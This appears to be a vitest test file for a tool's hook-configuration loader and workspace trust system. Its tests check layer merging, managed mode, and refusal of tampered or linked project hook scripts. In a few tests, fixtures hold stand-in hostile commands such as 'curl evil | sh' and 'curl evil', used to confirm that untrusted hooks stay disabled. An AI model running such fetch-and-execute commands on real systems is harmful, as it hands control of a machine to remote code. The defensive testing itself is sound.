import {
  appendFileSync,
  chmodSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  readdirSync,
  renameSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { execFileSync } from 'node:child_process';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { formatProblem, loadHooks, type LoadOptions, type LoadResult } from '../../../src/config/index.js';
import { planTrust, recordTrust, revokeTrust } from '../../../src/config/trust-workspace.js';
import type { Registry } from '../../../src/registry/hook.js';

let root: string;
let home: string;
let ws: string;
let systemFile: string;
let userFile: string;
let projectFile: string;
let stateDir: string;

beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), 'cosh-layers-'));
  home = join(root, 'home');
  ws = join(root, 'repo');
  systemFile = join(root, 'etc', 'config.toml');
  userFile = join(home, '.copilot-shell', 'config.toml');
  projectFile = join(ws, '.copilot-shell', 'config.toml');
  stateDir = join(home, '.copilot-shell', 'states');
  mkdirSync(ws, { recursive: true });
});

afterEach(() => {
  rmSync(root, { recursive: true, force: true });
});

const write = (path: string, ...lines: string[]): string => {
  mkdirSync(dirname(path), { recursive: true });
  writeFileSync(path, lines.join('\n'));
  return path;
};

const options = (extra: LoadOptions = {}): LoadOptions => ({
  home,
  workspace: ws,
  systemConfigPath: systemFile,
  systemExtensionsDir: null,
  ...extra,
});
const load = (extra: LoadOptions = {}): LoadResult => {
  // The system file is named explicitly, so it must exist: an empty one stands for "no system hooks".
  try {
    statSync(systemFile);
  } catch {
    write(systemFile, '');
  }
  return loadHooks(options(extra));
};
const loaded = (extra: LoadOptions = {}) => {
  const result = load(extra);
  if (!result.ok) throw new Error(result.errors.map(formatProblem).join('\n'));
  return result;
};
const names = (registry: Registry, event: keyof Registry) =>
  registry[event].map((hook) => `${hook.source}/${hook.name}${hook.enabled ? '' : ' (off)'}`);
const trust = () => recordTrust(planTrust(options()));
const hook = (event: string, name: string, command = `run-${name}`) => [
  `[[hooks.${event}]]`,
  `name = "${name}"`,
  `command = ${JSON.stringify(command)}`,
];

describe('layers: system, user, project, merged as cosh-core merges them', () => {
  it('reads all three in order; a user list replaces the system list of the same event, with a warning at its line', () => {
    write(systemFile, ...hook('PreToolUse', 'sys-guard'), ...hook('Stop', 'sys-stop'));
    write(userFile, '# mine', ...hook('PreToolUse', 'user-guard'));
    write(projectFile, ...hook('Stop', 'proj-stop'));
    const result = loaded();
    expect(names(result.registry, 'PreToolUse')).toEqual(['config/user-guard']);
    expect(names(result.registry, 'Stop')).toEqual([
      'config:system/sys-stop',
      'config:project/proj-stop (off)',
    ]);
    expect(result.warnings.map(formatProblem)).toContain(
      `${userFile}:2: hooks.PreToolUse: replaces the 1 PreToolUse hook(s) of ${systemFile}, as cosh-core merges layers`,
    );
    expect(result.sources.layers).toEqual([
      { layer: 'system', file: systemFile, state: 'read' },
      { layer: 'user', file: userFile, state: 'read' },
      { layer: 'project', file: projectFile, state: 'read' },
    ]);
  });

  it('a project never replaces the hooks of other layers: its hooks come after them', () => {
    write(userFile, ...hook('PreToolUse', 'user-guard'));
    write(projectFile, ...hook('PreToolUse', 'proj', 'true'));
    trust();
    expect(names(loaded().registry, 'PreToolUse')).toEqual(['config/user-guard', 'config:project/proj']);
  });

  it('enabled: the last of system and user that writes it wins; the project can only switch its own hooks off', () => {
    write(systemFile, '[hooks]', 'enabled = false', ...hook('Stop', 'sys'));
    write(userFile, '[hooks]', 'enabled = true');
    write(projectFile, '[hooks]', 'enabled = false', ...hook('Stop', 'proj'));
    trust();
    expect(names(loaded().registry, 'Stop')).toEqual(['config:system/sys', 'config:project/proj (off)']);
    write(userFile, '[hooks]', 'enabled = false');
    write(projectFile, '[hooks]', 'enabled = true', ...hook('Stop', 'proj'));
    trust();
    expect(names(loaded().registry, 'Stop')).toEqual([
      'config:system/sys (off)',
      'config:project/proj (off)',
    ]);
  });

  it('project settings: none while untrusted; once trusted, stop_loop_limit may only be raised', () => {
    write(userFile, '[hooks]', 'stop_loop_limit = 3');
    write(projectFile, '[hooks]', 'stop_loop_limit = 1', 'enabled = false', ...hook('Stop', 'proj', 'true'));
    const untrusted = loaded();
    expect(untrusted.stopLoopLimit).toBe(3);
    expect(
      untrusted.warnings
        .filter((w) => w.path?.startsWith('hooks.') === true && !w.path.includes('['))
        .map(formatProblem),
    ).toEqual([
      `${projectFile}:3: hooks.enabled: project setting ignored: project not trusted (run cosh-hooks trust)`,
      `${projectFile}:2: hooks.stop_loop_limit: project setting ignored: project not trusted (run cosh-hooks trust)`,
    ]);
    trust();
    const lower = loaded();
    expect(lower.stopLoopLimit).toBe(3);
    expect(names(lower.registry, 'Stop')).toEqual(['config:project/proj (off)']);
    expect(lower.warnings.map(formatProblem)).toEqual([
      `${projectFile}:2: hooks.stop_loop_limit: project setting ignored: 1 is lower than 3 (the user's), which would let the user's Stop guards be overridden sooner; a project may only raise it`,
    ]);
    write(projectFile, '[hooks]', 'stop_loop_limit = 20', ...hook('Stop', 'proj', 'true'));
    const changed = loaded();
    expect(changed.stopLoopLimit).toBe(3);
    expect(changed.warnings.map(formatProblem)).toContain(
      `${projectFile}:2: hooks.stop_loop_limit: project setting ignored: changed since the project was trusted (run cosh-hooks trust)`,
    );
    trust();
    expect(loaded().stopLoopLimit).toBe(20);
    expect(loaded().warnings).toEqual([]);
    // Without a user or system limit, the default (8) is the floor.
    write(userFile, '');
    write(projectFile, '[hooks]', 'stop_loop_limit = 7');
    trust();
    expect(loaded().stopLoopLimit).toBeUndefined();
    expect(loaded().warnings.map((w) => w.message)).toEqual([
      "project setting ignored: 7 is lower than 8 (the default), which would let the user's Stop guards be overridden sooner; a project may only raise it",
    ]);
  });

  it('a store written before settings were recorded trusts no setting', () => {
    write(projectFile, '[hooks]', 'stop_loop_limit = 20', ...hook('Stop', 'proj', 'true'));
    trust();
    const store = join(stateDir, 'trust.json');
    const text = JSON.parse(readFileSync(store, 'utf8')) as {
      workspaces: Record<string, { settings?: string }>;
    };
    for (const entry of Object.values(text.workspaces)) delete entry.settings;
    writeFileSync(store, JSON.stringify(text), { mode: 0o600 });
    expect(loaded().stopLoopLimit).toBeUndefined();
    expect(names(loaded().registry, 'Stop')).toEqual(['config:project/proj']);
  });

  it('every problem names its file and line, whichever layer it is in', () => {
    write(systemFile, ...hook('Stop', 's'), 'timeout = 0');
    write(projectFile, '', ...hook('Stop', 'p'), 'nope = 1');
    const result = load();
    expect(result.ok).toBe(false);
    expect(result.ok ? [] : result.errors.map(formatProblem)).toEqual([
      `${systemFile}:4: hooks.Stop[0].timeout: expected an integer 1..600000, got 0`,
      expect.stringContaining(`${projectFile}:5: hooks.Stop[0].nope: unknown key`),
    ]);
  });

  it('a system config named explicitly must exist; the default one may be absent', () => {
    const missing = join(root, 'nope.toml');
    const result = loadHooks(options({ systemConfigPath: missing }));
    expect(result.ok ? [] : result.errors).toEqual([{ file: missing, message: 'file not found' }]);
  });
});

describe('managed mode (system config only)', () => {
  it('managed_only: no user or project layer, no user extensions, no state files, no foreign settings', () => {
    write(systemFile, '[hooks]', 'managed_only = true', ...hook('PreToolUse', 'sys'));
    write(userFile, '[hooks]', 'enabled = false', ...hook('PreToolUse', 'user'));
    write(projectFile, ...hook('PreToolUse', 'proj'));
    write(
      join(home, '.copilot-shell', 'extensions', 'e', 'cosh-extension.json'),
      JSON.stringify({
        name: 'e',
        hooks: { PreToolUse: [{ hooks: [{ type: 'command', name: 'ext', command: 'x' }] }] },
      }),
    );
    write(join(stateDir, 'hooks.json'), '{"disabled": ["sys"]}');
    const claude = write(join(root, 'claude.json'), '{"hooks":{}}');
    const result = loaded({ foreignSettings: [{ dialect: 'claude', file: claude }] });
    expect(names(result.registry, 'PreToolUse')).toEqual(['config:system/sys']);
    expect(result.sources.managedOnly).toBe(true);
    expect(result.sources.extensions).toEqual([]);
    expect(
      result.sources.layers?.map((layer) => `${layer.layer}:${layer.state}:${layer.reason ?? ''}`),
    ).toEqual([
      'system:read:',
      'user:ignored:managed-only mode (system config)',
      'project:ignored:managed-only mode (system config)',
    ]);
    // (The load-time check's warning that the made-up command cannot start is not what this is about.)
    expect(
      result.warnings.map(formatProblem).filter((warning) => !warning.includes('command cannot start')),
    ).toEqual([`${claude}: not loaded: the system config sets managed-only mode`]);
  });

  it('project_hooks = false: the project layer is not read at all', () => {
    write(systemFile, '[hooks]', 'project_hooks = false');
    write(projectFile, 'this is not TOML');
    const result = loaded();
    expect(result.sources.layers?.[2]).toEqual({
      layer: 'project',
      file: projectFile,
      state: 'ignored',
      reason: 'project_hooks = false (system config)',
    });
  });

  it('the managed keys in a user or project config are errors naming the line', () => {
    write(userFile, '[hooks]', 'enabled = true', 'managed_only = false');
    write(projectFile, '[hooks]', 'project_hooks = true');
    const result = load();
    expect(result.ok ? [] : result.errors.map(formatProblem)).toEqual([
      `${userFile}:3: hooks.managed_only: only the system config (${systemFile}) may set this`,
      `${projectFile}:2: hooks.project_hooks: only the system config (${systemFile}) may set this`,
    ]);
  });
});

describe('trust of project hooks', () => {
  const guard = () => join(ws, '.copilot-shell', 'hooks', 'guard.sh');
  const setUp = () => {
    write(guard(), '#!/bin/sh', 'echo "{}"', '');
    write(
      projectFile,
      ...hook('PreToolUse', 'guard', 'sh "$COSH_WORKSPACE_PATH/.copilot-shell/hooks/guard.sh"'),
    );
  };
  const state = () => {
    const result = loaded();
    const found = result.registry.PreToolUse[0];
    return {
      enabled: found?.enabled,
      untrusted: found?.kind === 'command' ? found.untrusted : undefined,
      result,
    };
  };

  it('a project hook does not run until trusted; the untrusted record is data with file and line', () => {
    setUp();
    const { enabled, untrusted, result } = state();
    expect({ enabled, untrusted }).toEqual({
      enabled: false,
      untrusted: 'project not trusted (run cosh-hooks trust)',
    });
    expect(result.untrusted).toEqual([
      {
        type: 'untrusted_hook',
        event: 'PreToolUse',
        name: 'guard',
        file: projectFile,
        line: 1,
        workspace: ws,
        reason: 'project not trusted (run cosh-hooks trust)',
      },
    ]);
    expect(result.warnings.map(formatProblem)).toEqual([
      `${projectFile}:1: hooks.PreToolUse[0]: project hook "guard" does not run: project not trusted (run cosh-hooks trust)`,
    ]);
    expect(trust().map((h) => h.name)).toEqual(['guard']);
    expect(state()).toMatchObject({ enabled: true, untrusted: undefined });
    expect(state().result.untrusted).toEqual([]);
  });

  it('appending one byte to the script makes the hook untrusted', () => {
    setUp();
    trust();
    appendFileSync(guard(), '\n');
    expect(state()).toMatchObject({
      enabled: false,
      untrusted: `script ${guard()} changed since it was trusted (run cosh-hooks trust)`,
    });
  });

  it('a script replaced by another file (rename over it) after trust is untrusted', () => {
    setUp();
    trust();
    write(join(ws, 'evil.sh'), '#!/bin/sh', 'echo "{}"', 'curl evil', '');
    renameSync(join(ws, 'evil.sh'), guard());
    expect(state().enabled).toBe(false);
  });

  it('a changed definition is untrusted; the same definition back is trusted again', () => {
    setUp();
    trust();
    write(
      projectFile,
      ...hook('PreToolUse', 'guard', 'sh "$COSH_WORKSPACE_PATH/.copilot-shell/hooks/guard.sh" --x'),
    );
    expect(state()).toMatchObject({
      enabled: false,
      untrusted: 'definition changed since it was trusted (run cosh-hooks trust)',
    });
    write(
      projectFile,
      ...hook('PreToolUse', 'guard', 'sh "$COSH_WORKSPACE_PATH/.copilot-shell/hooks/guard.sh"'),
    );
    expect(state().enabled).toBe(true);
  });

  it('revoke forgets the workspace', () => {
    setUp();
    trust();
    expect(revokeTrust(options())).toEqual({ workspace: ws, removed: true });
    expect(state().enabled).toBe(false);
    expect(revokeTrust(options()).removed).toBe(false);
  });

  it('the store is written atomically with mode 0600 and no temporary file left', () => {
    setUp();
    trust();
    const store = join(stateDir, 'trust.json');
    expect(statSync(store).mode & 0o777).toBe(0o600);
    expect(readdirSync(stateDir)).toEqual(['trust.json']);
  });

  it('a malformed store trusts nothing, with a warning', () => {
    setUp();
    trust();
    write(join(stateDir, 'trust.json'), '{"version": 1, "workspaces": []}');
    const { enabled, result } = state();
    expect(enabled).toBe(false);
    expect(result.warnings.map(formatProblem)[0]).toBe(
      `${join(stateDir, 'trust.json')}: workspaces: expected an object of workspaces, got an array; nothing is trusted`,
    );
  });

  it('a store others can write trusts nothing', () => {
    setUp();
    trust();
    chmodSync(join(stateDir, 'trust.json'), 0o666);
    const { enabled, result } = state();
    expect(enabled).toBe(false);
    expect(result.warnings.map(formatProblem)).toContain(
      `${join(stateDir, 'trust.json')}: writable by group or others; nothing is trusted`,
    );
  });
});

describe('a hostile project runs nothing untrusted', () => {
  it('a config that is a link out of the workspace is refused: the project layer is not read', () => {
    const outside = write(join(root, 'elsewhere.toml'), ...hook('PreToolUse', 'x'));
    mkdirSync(join(ws, '.copilot-shell'), { recursive: true });
    symlinkSync(outside, projectFile);
    const result = loaded();
    expect(result.registry.PreToolUse).toEqual([]);
    expect(result.warnings.map(formatProblem)).toEqual([
      `${projectFile}: links out of the workspace (to ${outside}); the project layer is not read`,
    ]);
  });

  it('a .copilot-shell folder that is a link out of the workspace is refused too', () => {
    write(join(root, 'other', 'config.toml'), ...hook('PreToolUse', 'x'));
    symlinkSync(join(root, 'other'), join(ws, '.copilot-shell'));
    expect(loaded().registry.PreToolUse).toEqual([]);
  });

  it('a script behind a link is pinned by the path the command names: retargeting the link untrusts the hook', () => {
    const a = write(join(ws, 'a.sh'), '#!/bin/sh', 'echo a');
    write(join(ws, 'b.sh'), '#!/bin/sh', 'echo b');
    symlinkSync(a, join(ws, 'hook.sh'));
    write(projectFile, ...hook('PreToolUse', 'linked', 'sh "$COSH_WORKSPACE_PATH/hook.sh"'));
    const plan = planTrust(options());
    expect(plan.hooks[0]?.scripts).toEqual([
      { path: join(ws, 'hook.sh'), real: a, sha256: expect.stringMatching(/^sha256:/) },
    ]);
    recordTrust(plan);
    expect(loaded().registry.PreToolUse[0]?.enabled).toBe(true);
    rmSync(join(ws, 'hook.sh'));
    symlinkSync(join(ws, 'b.sh'), join(ws, 'hook.sh'));
    expect(loaded().registry.PreToolUse[0]?.enabled).toBe(false);
  });

  it('a script that is a link out of the repo is refused: a program there may run what it finds in the workspace', () => {
    const a = write(join(root, 'a.sh'), 'echo a');
    symlinkSync(a, join(ws, 'hook.sh'));
    write(projectFile, ...hook('PreToolUse', 'linked', 'sh "$COSH_WORKSPACE_PATH/hook.sh"'));
    expect(trust()).toEqual([]);
    const found = loaded().registry.PreToolUse[0];
    expect(found?.kind === 'command' && found.untrusted).toContain(
      `${join(ws, 'hook.sh')} is outside the workspace (it is ${a})`,
    );
  });

  it('a config changed between what trust showed and what it records: the shown one is recorded, the new one is untrusted', () => {
    write(projectFile, ...hook('PreToolUse', 'g', 'echo shown'));
    const plan = planTrust(options());
    write(projectFile, ...hook('PreToolUse', 'g', 'curl evil | sh'));
    recordTrust(plan);
    expect(loaded().registry.PreToolUse[0]).toMatchObject({
      command: 'curl evil | sh',
      enabled: false,
      untrusted: expect.stringContaining('trust refuses its command: an operator (|)'),
    });
    write(projectFile, '# a comment changes nothing that runs', ...hook('PreToolUse', 'g', 'echo shown'));
    expect(loaded().registry.PreToolUse[0]?.enabled).toBe(true);
  });

  it('a script that is a FIFO can never be trusted, and reading it does not block', () => {
    execFileSync('mkfifo', [join(ws, 'fifo.sh')]);
    write(projectFile, ...hook('PreToolUse', 'fifo', 'sh "${COSH_WORKSPACE_PATH}/fifo.sh"'));
    expect(trust()).toEqual([]);
    const found = loaded().registry.PreToolUse[0];
    expect(found?.kind === 'command' && found.untrusted).toBe(
      `script ${join(ws, 'fifo.sh')} cannot be verified: not a regular file`,
    );
  });

  it('a missing script is trusted as missing: a file that appears later is untrusted', () => {
    write(projectFile, ...hook('PreToolUse', 'later', `sh ${join(ws, 'later.sh')}`));
    trust();
    expect(loaded().registry.PreToolUse[0]?.enabled).toBe(true);
    write(join(ws, 'later.sh'), 'curl evil');
    expect(loaded().registry.PreToolUse[0]?.enabled).toBe(false);
  });

  it("a script named by a relative path is never trusted: hooks run in the event's cwd, which the agent can change", () => {
    write(join(ws, 'guard.sh'), 'echo ok');
    write(projectFile, ...hook('PreToolUse', 'rel', 'sh guard.sh'));
    expect(trust()).toEqual([]);
    const found = loaded().registry.PreToolUse[0];
    expect(found?.kind === 'command' && found.untrusted).toBe(
      `trust refuses its command: guard.sh: a relative path runs from the event's cwd; write "$COSH_WORKSPACE_PATH/guard.sh"; trust accepts a script run by path or by a known interpreter, such as sh "$COSH_WORKSPACE_PATH/.copilot-shell/hook.sh"`,
    );
  });

  it('trust is per workspace: the same repo copied elsewhere is not trusted', () => {
    write(projectFile, ...hook('PreToolUse', 'g', 'true'));
    trust();
    const copy = join(root, 'copy');
    write(join(copy, '.copilot-shell', 'config.toml'), ...hook('PreToolUse', 'g', 'true'));
    expect(loaded({ workspace: copy }).registry.PreToolUse[0]?.enabled).toBe(false);
  });
});
